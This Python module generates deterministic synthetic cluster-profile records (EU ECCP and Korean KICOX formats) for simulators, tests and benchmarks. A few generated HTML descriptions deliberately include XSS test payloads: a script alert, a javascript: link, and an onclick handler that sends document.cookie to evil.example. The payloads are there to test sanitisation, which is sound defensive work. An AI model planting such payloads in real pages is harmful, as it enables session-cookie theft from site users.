"""Synthetic cluster profiles for the simulators, the end-to-end tests and the benchmarks.

The records have exactly the shape of the shipped sample files (``data/eccp.json`` holds
``{"data": [{"id", "attributes"}]}``, ``data/kicox.json`` holds ``{"clusters": [...]}`` with every value a
string) and draw their vocabulary from those samples, so that the variety matches: countries, NUTS regions,
ecosystems, sectors, NACE codes, ESCA labels, Korean regions, industrial complexes, industry labels, KSIC codes,
public and private contacts, HTML descriptions with occasional hostile markup, about 1 % unpublished or
withdrawn profiles and change timestamps that several records share to the second.

Every record is a pure function of ``(seed, index)``: the output is deterministic, can be streamed without
holding ``n`` records in memory, and one side can refer to the other. About 1 % of the ECCP records are native
ECCP profiles of Korean clusters (``field_country`` "KR"): the one at ECCP index ``i`` belongs to the KICOX
record at the same index ``i`` (when that exists), linked either by the same website domain or by a
near-identical English name, as Korean clusters that registered on ECCP themselves are.

Usage: ``python -m clusterbridge.simulators.generate --count N --out DIR [--seed S]``.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
import uuid
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from functools import cache
from html import escape
from importlib import resources
from pathlib import Path
from typing import Any

__all__ = [
    "generate_eccp",
    "generate_kicox",
    "load_sample",
    "main",
    "write_seed_files",
]

DATA_PACKAGE = "clusterbridge.simulators.data"
ECCP_FILE = "eccp.json"
KICOX_FILE = "kicox.json"

KST = timezone(timedelta(hours=9))
PERIOD_START = datetime(2024, 1, 1, tzinfo=UTC)
PERIOD_END = datetime(2026, 11, 20, 18, 0, tzinfo=UTC)

WITHDRAWN_RATE = 0.01  # unpublished ECCP profiles / withdrawn KICOX clusters
HOSTILE_RATE = 0.005  # per kind of hostile markup
SHARED_SECOND_RATE = 0.05  # records whose change time is one of a few busy seconds
KOREAN_PROFILE_EVERY = 100  # one ECCP profile in this many is a Korean cluster's native profile
KOREAN_PROFILE_OFFSET = 41

_UUID_LOW_MASK = (1 << 48) - 1
_GOLDEN = 0x9E3779B97F4A7C15  # odd, so multiplying by it is a bijection modulo 2**48

_CLUSTER_KINDS = ("Cluster", "Network", "Alliance", "Innovation Cluster", "Competence Network", "Hub")
_PARTNER_COUNTRIES = ("KR", "JP", "US", "CA", "IN", "SG", "TW", "BR", "AU", "CH", "NO", "GB", "IL", "VN")

# English wording of the KICOX industry labels, for the English names of generated Korean clusters whose
# sample has none
_LABEL_EN = {
    "기계·장비": "Machinery",
    "전기·전자": "Electrical & Electronics",
    "자동차·부품": "Automotive Parts",
    "석유화학": "Petrochemical",
    "바이오·의료": "Bio-Health",
    "정보통신": "ICT",
    "섬유·의류": "Textile",
    "철강·금속": "Steel & Metals",
    "조선·해양": "Shipbuilding & Offshore",
    "에너지·환경": "Energy & Environment",
    "식품": "Food",
    "항공·우주": "Aerospace",
    "반도체": "Semiconductor",
    "디스플레이": "Display",
    "이차전지": "Secondary Battery",
    "로봇": "Robotics",
    "화장품": "Cosmetics",
    "뿌리산업": "Root Industry",
}

# EU industrial ecosystem and NACE Rev.2 division of each KICOX industry label, for the native ECCP profiles of
# generated Korean clusters (the mappings in mappings/ are the project's real crosswalk; this only keeps the
# synthetic profiles plausible)
_LABEL_ECCP = {
    "기계·장비": ("Electronics", "C28"),
    "전기·전자": ("Electronics", "C27"),
    "자동차·부품": ("Mobility-Transport-Automotive", "C29"),
    "석유화학": ("Energy-intensive industries (EII)", "C20"),
    "바이오·의료": ("Health", "C21"),
    "정보통신": ("Digital", "J62"),
    "섬유·의류": ("Textiles", "C13"),
    "철강·금속": ("Energy-intensive industries (EII)", "C24"),
    "조선·해양": ("Mobility-Transport-Automotive", "C30"),
    "에너지·환경": ("Energy-renewables", "D35"),
    "식품": ("Agri-food", "C10"),
    "항공·우주": ("Aerospace & defence", "C30"),
    "반도체": ("Electronics", "C26"),
    "디스플레이": ("Electronics", "C26"),
    "이차전지": ("Energy-renewables", "C27"),
    "로봇": ("Digital", "C28"),
    "화장품": ("Health", "C20"),
    "뿌리산업": ("Energy-intensive industries (EII)", "C25"),
}

# romanised first-level regions (ISO 3166-2:KR names), for Korean profiles written on ECCP
_KR_REGION_EN = {
    "서울특별시": "Seoul",
    "부산광역시": "Busan",
    "대구광역시": "Daegu",
    "인천광역시": "Incheon",
    "광주광역시": "Gwangju",
    "대전광역시": "Daejeon",
    "울산광역시": "Ulsan",
    "세종특별자치시": "Sejong",
    "경기도": "Gyeonggi-do",
    "강원특별자치도": "Gangwon-do",
    "강원도": "Gangwon-do",
    "충청북도": "Chungcheongbuk-do",
    "충청남도": "Chungcheongnam-do",
    "전북특별자치도": "Jeonbuk-do",
    "전라북도": "Jeollabuk-do",
    "전라남도": "Jeollanam-do",
    "경상북도": "Gyeongsangbuk-do",
    "경상남도": "Gyeongsangnam-do",
    "제주특별자치도": "Jeju-do",
}

_SEEKING = (
    "Partners for joint R&D projects in {t0} and {t1}",
    "Technology partners and pilot customers for {t0}",
    "Cluster-to-cluster cooperation and matchmaking for SMEs in {s0}",
    "Research partners and suppliers for {t1}; joint Horizon Europe proposals",
)
_OFFERING = (
    "Access to {m} members in {s0} and {s1}; soft-landing support in {city}",
    "Test beds and pilot lines for {t0}; introductions to research institutes",
    "Market entry support and B2B meetings with {s0} companies",
    "Expertise in {t1} and a network of {m} organisations",
)
_INTRO_EXTRA = (
    "주요 활동: 공동 R&D 과제 기획, 해외 전시회 공동관 운영, 기업 애로기술 지원",
    "산학연 협의회를 매월 개최하고 있습니다.",
    "스마트공장 보급과 디지털 전환을 함께 추진하고 있습니다.",
    "해외 바이어 초청 상담회와 수출 컨설팅을 지원합니다.",
)
_INTEREST = (
    "유럽 {theme} 클러스터와 공동 기술개발 및 실증 협력을 희망합니다.",
    "{theme} 분야 유럽 기업과의 기술교류, 공동 R&D 과제 발굴 및 해외 판로 개척에 관심이 있습니다.",
    "유럽 클러스터와 회원사 간 B2B 매칭, 전시회 공동 참가, 인력 교류를 추진하고자 합니다.",
    "{theme} 관련 유럽 연구기관과의 공동연구 및 표준·인증 정보 교류를 희망합니다.",
)


# --------------------------------------------------------------------------------------------------------------
# vocabulary from the shipped samples


def load_sample(name: str) -> dict[str, Any]:
    """One shipped sample file (``eccp.json`` or ``kicox.json``) as parsed JSON."""
    text = resources.files(DATA_PACKAGE).joinpath(name).read_text(encoding="utf-8")
    data: dict[str, Any] = json.loads(text)
    return data


@dataclass(frozen=True, slots=True)
class _EccpLocation:
    country: str
    nuts: str | None
    region: str | None
    city: str
    tld: str
    phone_prefix: str


@dataclass(frozen=True, slots=True)
class _EccpTheme:
    ecosystems: tuple[str, ...]
    sectors: tuple[str, ...]
    technologies: tuple[str, ...]
    nace: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class _EccpVocabulary:
    locations: tuple[_EccpLocation, ...]  # European ones; Korean profiles come from the KICOX side
    themes: tuple[_EccpTheme, ...]
    ecosystems: tuple[str, ...]
    technologies: tuple[str, ...]
    labels: tuple[str | None, ...]
    contacts: dict[str, tuple[tuple[str, str], ...]]  # country -> (name, e-mail local part)
    target_countries: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class _KicoxPlace:
    name_ko: str
    name_en: str | None
    complex: str
    region: str
    district: str
    street: str
    host_stem: str
    area_code: str


@dataclass(frozen=True, slots=True)
class _KicoxTheme:
    label: str
    ksic: str
    theme_ko: str
    theme_en: str


@dataclass(frozen=True, slots=True)
class _KicoxVocabulary:
    places: tuple[_KicoxPlace, ...]
    themes: tuple[_KicoxTheme, ...]
    pairs: tuple[tuple[int, int], ...]  # (place, theme) pairs that occur in the sample
    contacts: tuple[tuple[str, str], ...]  # (name, e-mail local part)
    nations: tuple[str, ...]


def _unique(items: Iterable[Any]) -> tuple[Any, ...]:
    return tuple(dict.fromkeys(items))


def _host(uri: str) -> str:
    host = uri.split("//", 1)[-1].split("/", 1)[0]
    return host.removeprefix("www.")


@cache
def _eccp_vocabulary() -> _EccpVocabulary:
    records = [r["attributes"] for r in load_sample(ECCP_FILE)["data"]]
    locations: list[_EccpLocation] = []
    contacts: dict[str, list[tuple[str, str]]] = {}
    for a in records:
        website = a.get("field_website") or {}
        tld = _host(website["uri"]).rsplit(".", 1)[-1] if website.get("uri") else "eu"
        contact = a.get("field_contact") or {}
        phone = contact.get("phone") or "+00"
        locations.append(
            _EccpLocation(
                a["field_country"],
                a.get("field_nuts_region"),
                a.get("field_region_name"),
                a.get("field_city") or a["title"].split()[0],
                tld,
                phone.split()[0],
            )
        )
        if contact.get("name") and contact.get("email"):
            contacts.setdefault(a["field_country"], []).append((contact["name"], contact["email"].split("@", 1)[0]))
    themes = [
        _EccpTheme(
            tuple(a["field_ecosystems"]),
            tuple(a["field_sectors"]),
            tuple(a["field_technologies"]),
            tuple(a["field_nace_codes"]),
        )
        for a in records
        if a["field_country"] != "KR" and a["field_sectors"] and a["field_technologies"]
    ]
    targets = [c for a in records for c in (a.get("field_cooperation_interest") or {}).get("target_countries", [])]
    return _EccpVocabulary(
        locations=_unique(loc for loc in locations if loc.country != "KR"),
        themes=_unique(themes),
        ecosystems=_unique(e for a in records for e in a["field_ecosystems"]),
        technologies=_unique(t for a in records for t in a["field_technologies"]),
        labels=tuple(a.get("field_esca_label") for a in records),
        contacts={k: _unique(v) for k, v in contacts.items()},
        target_countries=_unique([*targets, *_PARTNER_COUNTRIES]),
    )


_MINI_KO = "미니클러스터"
_MINI_EN = re.compile(r"\s*Mini-Cluster\s*$")


@cache
def _kicox_vocabulary() -> _KicoxVocabulary:
    records = load_sample(KICOX_FILE)["clusters"]
    places: dict[str, int] = {}
    place_list: list[_KicoxPlace] = []
    themes: dict[tuple[str, str, str], int] = {}
    theme_list: list[_KicoxTheme] = []
    pairs: list[tuple[int, int]] = []
    for r in records:
        words = r["clstrNm"].replace(_MINI_KO, "").split()
        place_ko, theme_ko = words[0], " ".join(words[1:]) or r["indutyNm"]
        eng = r["clstrEngNm"].strip()
        eng_words = _MINI_EN.sub("", eng).split() if eng else []
        place_en = eng_words[0] if eng_words else None
        theme_en = " ".join(eng_words[1:]) if len(eng_words) > 1 else _LABEL_EN.get(r["indutyNm"], "Industry")
        street = r["rdnmadr"].rsplit(" ", 1)[0] if r["rdnmadr"].strip() else r["ctprvnNm"]
        stem = _host(r["hmpgUrl"]).split(".", 1)[0] if r["hmpgUrl"].strip() else "cluster"
        key = f"{place_ko}|{r['cmplxNm']}"
        if key not in places:
            places[key] = len(place_list)
            place_list.append(
                _KicoxPlace(
                    place_ko,
                    place_en,
                    r["cmplxNm"],
                    r["ctprvnNm"],
                    r["signguNm"],
                    street,
                    stem,
                    r["chargerTelno"].split("-", 1)[0],
                )
            )
        elif place_en and place_list[places[key]].name_en is None:
            old = place_list[places[key]]
            place_list[places[key]] = _KicoxPlace(
                old.name_ko, place_en, old.complex, old.region, old.district, old.street, old.host_stem, old.area_code
            )
        tkey = (r["indutyNm"], r["ksicCd"], theme_ko)
        if tkey not in themes:
            themes[tkey] = len(theme_list)
            theme_list.append(_KicoxTheme(r["indutyNm"], r["ksicCd"], theme_ko, theme_en))
        pairs.append((places[key], themes[tkey]))
    return _KicoxVocabulary(
        places=tuple(place_list),
        themes=tuple(theme_list),
        pairs=tuple(pairs),
        contacts=_unique((r["chargerNm"], r["chargerEmail"].split("@", 1)[0]) for r in records if r["chargerNm"]),
        nations=_unique(r["cprtnNatnCd"] for r in records if r["cprtnNatnCd"]),
    )


# --------------------------------------------------------------------------------------------------------------
# shared helpers


def _rng(side: str, seed: int, index: int) -> random.Random:
    return random.Random(f"clusterbridge:{side}:{seed}:{index}")


@cache
def _busy_seconds(side: str, seed: int) -> tuple[datetime, ...]:
    """A few seconds in which many records of one data set changed (bulk edits, imports)."""
    rng = random.Random(f"clusterbridge:{side}:{seed}:busy")
    start = datetime(2025, 1, 1, tzinfo=UTC)
    span = int((PERIOD_END - start).total_seconds())
    return tuple(sorted(start + timedelta(seconds=rng.randrange(span)) for _ in range(64)))


def _moment(rng: random.Random, start: datetime, end: datetime) -> datetime:
    return start + timedelta(seconds=rng.randrange(max(1, int((end - start).total_seconds()))))


def _change_time(rng: random.Random, side: str, seed: int) -> datetime:
    if rng.random() < SHARED_SECOND_RATE:
        return rng.choice(_busy_seconds(side, seed))
    return _moment(rng, PERIOD_START + timedelta(days=30), PERIOD_END)


def _iso(value: datetime) -> str:
    return value.astimezone(UTC).replace(microsecond=0).isoformat()


def _slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


def _term(text: str) -> str:
    """A taxonomy term inside a sentence: 'Industrial Robotics' -> 'industrial robotics'; '6G', 'ICT' stay."""
    return " ".join(w[:1].lower() + w[1:] if w[1:2].islower() else w for w in text.split(" "))


def _title_case(text: str) -> str:
    return " ".join(w[:1].upper() + w[1:] for w in text.split())


@cache
def _uuid_mask(seed: int) -> int:
    return random.Random(f"clusterbridge:uuid:{seed}").getrandbits(48)


def _uuid(rng: random.Random, seed: int, index: int) -> str:
    """A version-4 UUID, random-looking, and unique per index by construction: its low 48 bits are the index
    times an odd constant, XOR a mask fixed per seed, which is a bijection on the indexes below 2**48."""
    low = ((index * _GOLDEN) & _UUID_LOW_MASK) ^ _uuid_mask(seed)
    return str(uuid.UUID(int=(rng.getrandbits(128) & ~_UUID_LOW_MASK) | low, version=4))


# --------------------------------------------------------------------------------------------------------------
# ECCP


def _eccp_description(
    rng: random.Random,
    title: str,
    about: str,
    theme: _EccpTheme,
    members: int,
    year: int,
    city: str,
    website: str | None,
) -> str:
    title, about, city = escape(title, quote=False), escape(about, quote=False), escape(city, quote=False)
    theme = _EccpTheme(
        theme.ecosystems,
        tuple(escape(x, quote=False) for x in theme.sectors),
        tuple(escape(x, quote=False) for x in theme.technologies),
        theme.nace,
    )
    parts = [f"<p>{about}</p>"]
    variant = rng.randrange(4)
    if variant == 0:
        parts.append(f"<p>Founded in {year}, <strong>{title}</strong> has {members} members today.</p>")
        parts.append("<ul>" + "".join(f"<li>{s}</li>" for s in theme.sectors) + "</ul>")
    elif variant == 1:
        parts.append(f"<p><strong>Main fields:</strong> {', '.join(theme.sectors)}.</p>")
        parts.append("<p>Key technologies:</p><ul>" + "".join(f"<li>{t}</li>" for t in theme.technologies) + "</ul>")
    elif variant == 2:
        parts.append(
            f"<p>Our {members} members are based in and around {city}. We run joint projects in "
            f"<strong>{_term(theme.technologies[0])}</strong> and {_term(theme.technologies[-1])}.</p>"
        )
    else:
        parts.append("<ul>" + "".join(f"<li><strong>{s}</strong></li>" for s in theme.sectors[:2]) + "</ul>")
        if website:
            parts.append(f'<p>More at <a href="{website}">{_host(website)}</a>.</p>')
    if rng.random() < HOSTILE_RATE:
        parts.append("<p>Join our next open call!<script>alert('x')</script></p>")
    if rng.random() < HOSTILE_RATE:
        parts[0] = parts[0].replace("<p>", "<p onclick=\"document.location='https://evil.example/'+document.cookie\">")
    if rng.random() < HOSTILE_RATE:
        parts.append('<p>Download the <a href="javascript:alert(document.domain)">members directory</a>.</p>')
    return "".join(parts)


def _eccp_cooperation(
    rng: random.Random, vocab: _EccpVocabulary, theme: _EccpTheme, members: int, city: str
) -> dict[str, Any] | None:
    if rng.random() < 0.1:
        return None
    fmt = {
        "t0": _term(theme.technologies[0]),
        "t1": _term(theme.technologies[-1]),
        "s0": _term(theme.sectors[0]),
        "s1": _term(theme.sectors[-1]),
        "m": members,
        "city": city,
    }
    targets = ["KR"] if rng.random() < 0.7 else []
    others = [c for c in vocab.target_countries if c != "KR"]
    targets += rng.sample(others, rng.randint(0 if targets else 1, 3))
    return {
        "seeking": rng.choice(_SEEKING).format(**fmt),
        "offering": rng.choice(_OFFERING).format(**fmt),
        "target_countries": targets,
    }


def _eccp_contact(rng: random.Random, vocab: _EccpVocabulary, country: str, phone_prefix: str) -> dict[str, Any]:
    pool = vocab.contacts.get(country) or next(iter(vocab.contacts.values()))
    name, local = rng.choice(pool)
    domain = rng.choice(("example.org", "example.eu"))
    return {
        "name": name,
        "email": f"{local}@{domain}",
        "phone": f"{phone_prefix} {rng.randint(10, 99)} 000 {rng.randint(1000, 9999)}",
        "public": rng.random() < 0.5,
    }


@dataclass(frozen=True, slots=True)
class _KoreanProfile:
    title: str
    website: str | None
    region: str
    city: str | None
    theme: _EccpTheme
    industry: str


def _korean_profile(seed: int, index: int, rng: random.Random) -> _KoreanProfile | None:
    """The native ECCP profile of KICOX record ``index``: same website domain or near-identical English name."""
    korean = _kicox_record(seed, index)
    eng = korean["clstrEngNm"].strip()
    place_no, theme_no = _kicox_choice(seed, index)
    place, kicox_theme = _kicox_vocabulary().places[place_no], _kicox_vocabulary().themes[theme_no]
    region = _KR_REGION_EN.get(korean["ctprvnNm"], "Korea")
    city = place.name_en
    ecosystem, division = _LABEL_ECCP.get(kicox_theme.label, ("Electronics", "C28"))
    vocab = _eccp_vocabulary()
    candidates = [t for t in vocab.themes if ecosystem in t.ecosystems] or list(vocab.themes)
    template = rng.choice(candidates)
    theme = _EccpTheme((ecosystem,), (kicox_theme.theme_en, *template.sectors[:1]), template.technologies, (division,))
    title: str | None = None
    website: str | None = None
    if eng and (index // KOREAN_PROFILE_EVERY) % 2 == 0:
        # matched by a near-identical English name; no website, or a different one
        title = eng.replace("Mini-Cluster", "Mini Cluster")
        if title == eng:
            title = eng + " (Korea)"
        website = None if rng.random() < 0.5 else f"https://www.{_slug(title)[:40]}.kr"
    elif korean["hmpgUrl"].strip():
        # matched by the same website domain, written differently
        title = f"{city or region} {kicox_theme.theme_en} Cluster of Korea {index + 1}"
        website = f"https://{_host(korean['hmpgUrl'])}/en"
    if title is None:
        return None
    return _KoreanProfile(title, website, region, city, theme, kicox_theme.theme_en)


def _eccp_record(seed: int, index: int) -> dict[str, Any]:
    vocab = _eccp_vocabulary()
    rng = _rng("eccp", seed, index)
    record_id = _uuid(rng, seed, index)
    theme = rng.choice(vocab.themes)
    if rng.random() < 0.2:
        extra = rng.choice(vocab.ecosystems)
        if extra not in theme.ecosystems:
            theme = _EccpTheme((*theme.ecosystems, extra), theme.sectors, theme.technologies, theme.nace)
    if rng.random() < 0.3:
        tech = rng.choice(vocab.technologies)
        if tech not in theme.technologies:
            theme = _EccpTheme(theme.ecosystems, theme.sectors, (*theme.technologies, tech), theme.nace)
    location = rng.choice(vocab.locations)
    sector = rng.choice(theme.sectors)
    kind = rng.choice(_CLUSTER_KINDS)
    title = f"{location.city} {_title_case(sector)} {kind} {index + 1}"
    website: str | None = f"https://www.{_slug(location.city)}-{_slug(sector)}-{index + 1}.{location.tld}"
    country, nuts, region, city = location.country, location.nuts, location.region, location.city
    korean = None
    if index % KOREAN_PROFILE_EVERY == KOREAN_PROFILE_OFFSET:
        korean = _korean_profile(seed, index, rng)
    if korean is not None:
        title, website, theme, sector, kind = korean.title, korean.website, korean.theme, korean.industry, "Cluster"
        country, nuts, region, city = "KR", None, korean.region, korean.city or ""
    elif rng.random() < 0.03:
        website = None
    phone_prefix = "+82" if country == "KR" else location.phone_prefix
    sme, large = rng.randint(10, 400), rng.randint(0, 60)
    research, other = rng.randint(0, 50), rng.randint(0, 40)
    members = sme + large + research + other
    year = rng.randint(1990, 2023)
    about = (
        f"{kind} of {_term(sector)} companies, research organisations and public partners "
        f"in {city or region}{', Korea' if korean else ''}, working on {_term(theme.technologies[0])} and "
        f"{_term(theme.technologies[-1])}."
    )
    created = _moment(rng, PERIOD_START, datetime(2025, 12, 31, tzinfo=UTC))
    changed = _change_time(rng, "eccp", seed)
    created = min(created, changed - timedelta(days=1))
    words = [w for w in re.split(r"[\s\-&]+", title) if w and w[0].isalpha()]
    acronym = None if rng.random() < 0.1 else ("".join(w[0] for w in words).upper() + f"-{index + 1}")[:64]
    return {
        "id": record_id,
        "attributes": {
            "drupal_internal__nid": 100_000 + index * 4 + rng.randrange(4),
            "title": title,
            "field_acronym": acronym,
            "status": rng.random() >= WITHDRAWN_RATE,
            "created": _iso(created),
            "changed": _iso(changed),
            "langcode": "en",
            "field_description": {
                "value": _eccp_description(rng, title, about, theme, members, year, city or region or "", website),
                "format": "basic_html",
            },
            "field_website": {"uri": website, "title": _host(website)} if website else None,
            "field_country": country,
            "field_nuts_region": nuts,
            "field_region_name": region,
            "field_city": city or None,
            "field_year_established": year,
            "field_members_sme": sme,
            "field_members_large": large,
            "field_members_research": research,
            "field_members_other": other,
            "field_ecosystems": list(theme.ecosystems),
            "field_sectors": list(theme.sectors),
            "field_technologies": list(theme.technologies),
            "field_nace_codes": list(theme.nace),
            "field_esca_label": rng.choice(vocab.labels),
            "field_cooperation_interest": _eccp_cooperation(rng, vocab, theme, members, city or region or ""),
            "field_contact": _eccp_contact(rng, vocab, country, phone_prefix),
            "field_origin": "eccp",
            "field_external_id": None,
        },
    }


def generate_eccp(n: int, seed: int = 0) -> Iterator[dict[str, Any]]:
    """``n`` native ECCP profiles (``{"id", "attributes"}``), deterministic from ``seed``, one at a time."""
    if n < 0:
        raise ValueError("n must not be negative")
    for index in range(n):
        yield _eccp_record(seed, index)


# --------------------------------------------------------------------------------------------------------------
# KICOX


def _kicox_choice(seed: int, index: int) -> tuple[int, int]:
    """(place, theme) of KICOX record ``index``: half the time a pair seen in the sample, else any mix."""
    vocab = _kicox_vocabulary()
    rng = _rng("kicox-theme", seed, index)
    if rng.random() < 0.5:
        return rng.choice(vocab.pairs)
    return rng.randrange(len(vocab.places)), rng.randrange(len(vocab.themes))


def _kicox_intro(rng: random.Random, name: str, place: _KicoxPlace, theme: _KicoxTheme, members: str, year: str) -> str:
    lines = [
        f"{name}는 {place.complex}에 입주한 {theme.theme_ko} 기업이 중심이 되어 {year}년에 결성되었습니다.",
        f"회원사 {members.strip() or '다수'}개사와 대학·연구기관이 함께 기술개발, 판로개척, 인력양성 과제를 "
        "수행합니다.",
    ]
    lines += rng.sample(_INTRO_EXTRA, rng.randint(0, 2))
    if rng.random() < HOSTILE_RATE:
        lines.append("<script>alert('kicox')</script>회원사 모집 중")
    return ("<br>" if rng.random() < 0.5 else "\r\n").join(lines)


def _kicox_record(seed: int, index: int) -> dict[str, str]:
    vocab = _kicox_vocabulary()
    rng = _rng("kicox", seed, index)
    place_no, theme_no = _kicox_choice(seed, index)
    place, theme = vocab.places[place_no], vocab.themes[theme_no]
    serial = index + 1
    name = f"{place.name_ko} {theme.theme_ko} {_MINI_KO} {serial}"
    eng = ""
    if place.name_en and rng.random() < 0.7:
        eng = f"{place.name_en} {theme.theme_en} Mini-Cluster {serial}"
    elif rng.random() < 0.02:
        eng = " "  # the open-data service's way of saying "unknown"
    members = rng.randint(20, 300)
    sme = members - rng.randint(0, max(1, members // 6))
    counts = [str(members), str(sme), str(rng.randint(1, 12))]
    if rng.random() < 0.01:
        counts[rng.randrange(3)] = " "
    year = str(rng.randint(2004, 2022))
    stem = f"{_slug(place.name_en)}-{_slug(theme.theme_en)}" if place.name_en else place.host_stem
    url = "" if rng.random() < 0.02 else f"http://www.{stem}{serial}.or.kr"
    has_interest = rng.random() < 0.75
    contact_name, local = rng.choice(vocab.contacts)
    changed = _change_time(rng, "kicox", seed).astimezone(KST)
    return {
        "clstrId": f"KC-{100_000 + serial:06d}",
        "clstrNm": name,
        "clstrEngNm": eng,
        "cmplxNm": place.complex,
        "ctprvnNm": place.region,
        "signguNm": place.district,
        "rdnmadr": f"{place.street} {rng.randint(1, 999)}",
        "indutyNm": theme.label,
        "ksicCd": theme.ksic,
        "mberCo": counts[0],
        "smeCo": counts[1],
        "rsrchInsttCo": counts[2],
        "estblYear": year,
        "hmpgUrl": url,
        "intrcn": _kicox_intro(rng, name, place, theme, counts[0], year),
        "cprtnIntrstCn": rng.choice(_INTEREST).format(theme=theme.theme_ko) if has_interest else "",
        "cprtnNatnCd": rng.choice(vocab.nations) if has_interest and rng.random() < 0.85 else "",
        "chargerNm": contact_name,
        "chargerTelno": f"{place.area_code}-000-{rng.randint(1000, 9999)}",
        "chargerEmail": f"{local}@example.or.kr",
        "chargerOthbcAt": "Y" if rng.random() < 0.45 else "N",
        "updtDt": changed.strftime("%Y%m%d%H%M%S"),
        "useAt": "N" if rng.random() < WITHDRAWN_RATE else "Y",
    }


def generate_kicox(n: int, seed: int = 0) -> Iterator[dict[str, str]]:
    """``n`` Korean clusters as the open-data service lists them (every value a string), one at a time."""
    if n < 0:
        raise ValueError("n must not be negative")
    for index in range(n):
        yield _kicox_record(seed, index)


# --------------------------------------------------------------------------------------------------------------
# seed files


def _write_stream(path: Path, key: str, records: Iterable[dict[str, Any]]) -> None:
    with path.open("w", encoding="utf-8", newline="\n") as out:
        out.write(f'{{"{key}": [')
        for position, record in enumerate(records):
            out.write(",\n" if position else "\n")
            out.write(json.dumps(record, ensure_ascii=False))
        out.write("\n]}\n")


def write_seed_files(n: int, out_dir: Path, seed: int = 0) -> tuple[Path, Path]:
    """Write ``eccp.json`` and ``kicox.json`` with ``n`` records each, streamed; return their paths."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    eccp_path, kicox_path = out_dir / ECCP_FILE, out_dir / KICOX_FILE
    _write_stream(eccp_path, "data", generate_eccp(n, seed))
    _write_stream(kicox_path, "clusters", generate_kicox(n, seed))
    return eccp_path, kicox_path


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m clusterbridge.simulators.generate",
        description="Write synthetic ECCP and KICOX seed files (eccp.json, kicox.json) for the simulators.",
    )
    parser.add_argument("--count", type=int, required=True, help="records per platform")
    parser.add_argument("--out", type=Path, required=True, help="folder to write eccp.json and kicox.json to")
    parser.add_argument("--seed", type=int, default=0, help="random seed (default 0)")
    args = parser.parse_args(argv)
    if args.count < 0:
        parser.error("--count must not be negative")
    eccp_path, kicox_path = write_seed_files(args.count, args.out, args.seed)
    sys.stdout.write(f"{eccp_path}\n{kicox_path}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
